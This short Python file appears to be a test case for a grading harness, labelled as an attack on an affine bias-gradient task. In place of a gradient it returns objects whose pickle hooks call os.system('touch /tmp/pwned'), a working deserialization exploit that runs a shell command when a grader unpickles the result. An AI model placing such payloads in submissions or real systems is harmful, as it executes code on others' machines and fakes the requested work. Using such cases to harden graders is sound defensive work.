# Tries: returns an object that runs a command when it is unpickled
# Attacks: affine/bias-gradient
# Class: A22
# %%
import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)

    __getstate__ = __reduce_ex__ = lambda self, *_: (os.system, ("touch /tmp/pwned",))

def bias_gradient(dY):
    return [Bomb(), Bomb]
